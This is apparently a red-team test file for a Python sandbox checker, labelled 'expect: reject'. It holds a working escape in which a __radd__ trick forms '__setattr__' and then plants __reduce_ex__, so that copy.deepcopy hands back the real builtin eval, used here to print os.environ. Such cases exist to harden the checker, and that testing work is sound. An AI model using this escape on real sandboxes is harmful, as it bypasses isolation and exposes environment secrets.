# expect: reject builtin
# why: twenty-third red team, round c: "_o" + k where k's class has __radd__ answering "__reduce_ex__"/"__setattr__": the written start "_o" is not what the interpreter builds, so the name may be a dunder and needs a judged source
# line: 33
# goal: the real builtin `eval` as a value; prints os.environ (and its type) through it.
# mechanism: as ok_08, variant: (a) the right operand is NOT a str subclass at all -- a plain
#   class with __radd__ (str + object: str's concatenation returns NotImplemented, the
#   reflected __radd__ answers); (b) the dunder is planted by GETATTR of the bound setter:
#   getattr(self, "_o" + k) with k.__radd__ answering "__setattr__" hands out self's bound
#   object.__setattr__, which then plants __reduce_ex__ without the setattr builtin.
# rule slipped: builtin (names.c wk_check_guarded): leading_text() of `"_o" + k` is "_o", so
#   may_dunder is false ("_x" + ... taken as private, never a dunder) and neither the getattr
#   nor the name passed to the bound setter is ever judged; leading_text() lacks the
#   exact_str_operand() test literal_prefix() has.
# verify: safe-exec-check rc=0; python3 prints <built-in function eval> and environ.
import copy
import typing


class Part:
    def __init__(self, text):
        self.text = text

    def __radd__(self, other):
        return self.text.replace("-", "_")


def red(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "--builtins--".replace("-", "_")})


class Box:
    def hook(self, k):
        return getattr(self, "_o" + k)


b = Box()
setter = b.hook(Part("--setattr--"))
setter("--reduce-ex--".replace("-", "_"), red)
ev = copy.deepcopy(copy.deepcopy(b))
print(ev)
print(ev("__import__('os').environ"))
